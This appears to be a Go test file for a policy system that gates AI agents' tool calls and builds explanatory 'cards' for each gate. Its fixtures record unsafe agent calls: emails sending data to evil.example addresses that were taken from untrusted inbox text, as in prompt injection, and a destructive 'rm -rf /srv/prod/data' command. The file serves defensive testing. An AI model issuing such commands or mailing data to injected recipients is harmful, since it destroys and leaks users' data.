package card

import (
	"fmt"
	"strings"
	"testing"

	"github.com/gbt-policy/gbt/artifacts"
	"github.com/gbt-policy/gbt/gates"
	"github.com/gbt-policy/gbt/internal/corpora/contexts"
	"github.com/gbt-policy/gbt/internal/gates/lang"
	"github.com/gbt-policy/gbt/internal/gates/library"
	"github.com/gbt-policy/gbt/internal/redact"
)

// found says of a value that it came out of text, of a field, of the task, or of
// nowhere.
type found map[string][3]string

func (f found) Find(value string) (origin, source, form string) {
	if at, ok := f[value]; ok {
		return at[0], at[1], at[2]
	}
	return "agent", "", ""
}

func recorded(t *testing.T, l contexts.Label, tool, args string, from found, n int) contexts.Row {
	t.Helper()
	c := gates.NewContext(gates.Request{Tool: tool, Args: []byte(args)}, gates.State{Cwd: "/work", Roots: []string{"/work"}, UID: -1, GID: -1, Sources: from})
	r := redact.Context(&c)
	return contexts.NewRow(l, &r, "send", contexts.Evidence{Episode: fmt.Sprintf("%032x", n), Task: fmt.Sprint("t", n), From: 1, To: n, Rule: "judge/one"})
}

// record has two harmful calls that a gate on text from tools stops, and honest
// calls that it stops or nearly stops.
func record(t *testing.T) *Record {
	c := &contexts.Corpus{}
	for n := range 2 {
		c.Add(recorded(t, contexts.Unsafe, "send_email", fmt.Sprintf(`{"recipients":["eve%d@evil.example"],"subject":"hello","body":"all of it"}`, n),
			found{fmt.Sprintf("eve%d@evil.example", n): {"untrusted", "read_inbox", "[].body~"}, "all of it": {"untrusted", "read_file", "text"}}, n+2))
	}
	c.Add(recorded(t, contexts.Unsafe, "bash", `{"command":"rm -rf /srv/prod/data"}`, nil, 5))
	c.Add(recorded(t, contexts.Benign, "send_email", `{"recipients":["anna@corp.example"],"subject":"hello","body":"all"}`, found{"anna@corp.example": {"task", "", ""}}, 6))
	c.Add(recorded(t, contexts.Benign, "bash", `{"command":"ls /work"}`, nil, 7))
	return &Record{Corpus: c}
}

func gate(t *testing.T, disposition, expr string) Gate {
	t.Helper()
	canonical, program, err := lang.Compile(expr)
	if err != nil {
		t.Fatal(err)
	}
	g := artifacts.Gate{Scope: artifacts.ScopeGlobal, Disposition: disposition, Expr: canonical, Program: program, Message: "have the user name it", Evidence: artifacts.Evidence{Unsafe: 2, Benign: 40, Rejected: 1}}
	g.ID = artifacts.GateID(g.Scope, g.Disposition, g.Expr)
	return Gate{Gate: g}
}

const textGate = `!ctx.high || ctx.args.all(a, a.role != "recipient" || a.origin != "untrusted" || !a.form.contains("~"))`

func TestText(t *testing.T) {
	g := gate(t, artifacts.DispositionConsent, textGate)
	c, err := Build(&g, record(t))
	if err != nil {
		t.Fatal(err)
	}
	want := `gate ` + g.ID[:12] + `, everywhere
  Asks before a call whose recipient comes out of text that a tool returned.
  stopped   2 calls on record that did harm (2 send_email)
            - send_email: recipients (somebody at evil.example) out of text in read_inbox; body from a field
              of read_file; subject chosen by the agent (2 times)
  honest    would stop none of 2 honest calls on record; the nearest pass:
            - send_email: recipients (somebody at corp.example) named by the task; body and subject chosen by
              the agent
            - bash: runs ls; lists /work
  left out  stops 1 of 40 honest tasks that it was not made from (2.5%; 95% sure: at most 11.3%)
  from      learned from 2 recorded calls that did harm, found by judge/one
  says      have the user name it
`
	if got := string(c.Text()); got != want {
		t.Errorf("got:\n%s\nwant:\n%s", got, want)
	}
}

// TestBuild looks at what cards say of other gates.
func TestBuild(t *testing.T) {
	rec := record(t)
	for _, c := range []struct {
		name, expr string
		change     func(*Gate)
		record     *Record
		want       []string
		not        string
	}{
		{"a call of a shell by what it does", `ctx.effects.all(e, e.type != "delete")`, nil, rec,
			[]string{"Rejects a call that removes something.", "- bash: removes /srv/prod/data (protected); runs rm"}, ""},
		{"an honest call that is stopped", `ctx.verb != "send"`, nil, rec, []string{"would stop 1 of 2 honest calls on record:"}, "the nearest pass"},
		{"conditions that a sentence only counts", `ctx.tool != "a" || ctx.verb == "send" || ctx.roots.size() < 3 && ctx.args.size() < 3`, nil, nil,
			[]string{"Rejects a call of a", ", under ", "  exactly   if "}, ""},
		{"no record", textGate, nil, nil, []string{"2 calls on record that did harm; the record with the calls is not here"}, "honest call"},
		{"written by hand", textGate, func(g *Gate) { g.Evidence = artifacts.Evidence{} }, nil,
			[]string{"written by hand: no recorded call speaks for it", "nobody measured it on tasks left out"}, ""},
		{"a proposal", textGate, func(g *Gate) {
			g.Proposal, g.Why, g.Below, g.Scope = true, "seen in one task only", []string{"send:mail"}, artifacts.ScopeNode
		}, nil,
			[]string{"proposal ", "at send:mail\n", "Would reject a call", "not yet   seen in one task only"}, "gate "},
		{"a gate of nodes where nobody is", textGate, func(g *Gate) { g.Scope, g.Nodes, g.Below = artifacts.ScopeNode, 3, []string{"send"} }, rec,
			[]string{"at send and below (3 nodes)", "0 calls on record", "would stop none"}, "- send_email: recipients (somebody at evil"},
	} {
		t.Run(c.name, func(t *testing.T) {
			g := gate(t, "rejected", c.expr)
			if c.change != nil {
				c.change(&g)
			}
			made, err := Build(&g, c.record)
			if err != nil {
				t.Fatal(err)
			}
			text := string(made.Text())
			for _, w := range c.want {
				if !strings.Contains(text, w) {
					t.Errorf("no %q in\n%s", w, text)
				}
			}
			if c.not != "" && strings.Contains(text, c.not) {
				t.Errorf("%q in\n%s", c.not, text)
			}
		})
	}
}

// TestNames shows that names of tools stay names in Markdown and on a page.
func TestNames(t *testing.T) {
	g := gate(t, "rejected", `ctx.tool != "a_b" && ctx.tool != "<img src=x>"`)
	c, err := Build(&g, nil)
	if err != nil {
		t.Fatal(err)
	}
	page, err := c.HTML()
	if err != nil || strings.Contains(string(page), "<img") || !strings.Contains(string(page), "&lt;img src=x&gt;") {
		t.Errorf("markup of a name is markup of the page: %v\n%s", err, page)
	}
	text := string(c.Markdown())
	if !strings.Contains(text, `a\_b`) || strings.Contains(text, "<img") && !strings.Contains(text, `\<img`) {
		t.Errorf("markup of a name is markup of the card:\n%s", text)
	}
}

// TestLibrarySentence holds that a gate speaks as one of the library where it asks
// what that asks, but for exemptions that its card names, and not where it says so.
func TestLibrarySentence(t *testing.T) {
	lib, _ := library.Find(library.Untrusted)
	older := strings.Replace(lib.Sealed(0), lib.Label(), lib.Name+"@1", 1)
	exempt := func(flow string) string {
		return strings.Replace(lib.Expr, `a.form.contains("~") &&`, `a.form.contains("~") && !(`+flow+`) &&`, 1)
	}
	for name, tt := range map[string]struct {
		message, expr string
		says          bool
	}{
		"this version":                {lib.Sealed(0), lib.Expr, true},
		"an older one that asks so":   {older, lib.Expr, true},
		"an exemption":                {lib.Sealed(1), exempt(`ctx.tool == "send_email" && a.path == "subject" && a.source == "read_inbox"`), true},
		"the label alone":             {lib.Sealed(0), "size(ctx.args) >= 0", false},
		"an older one of other words": {older, textGate, false},
		"an exemption of a tool":      {lib.Sealed(1), exempt(`ctx.tool == "send_email"`), false},
		"of all arguments of one":     {lib.Sealed(1), exempt(`ctx.tool == "send_email" && a.path.startsWith("")`), false},
		"no label":                    {"have the user name it", lib.Expr, false},
	} {
		g := gate(t, artifacts.DispositionConsent, tt.expr)
		g.Message = tt.message
		c, err := Build(&g, nil)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(c.Says, lib.Says) != tt.says {
			t.Errorf("%s: %s", name, c.Says)
		}
	}
}
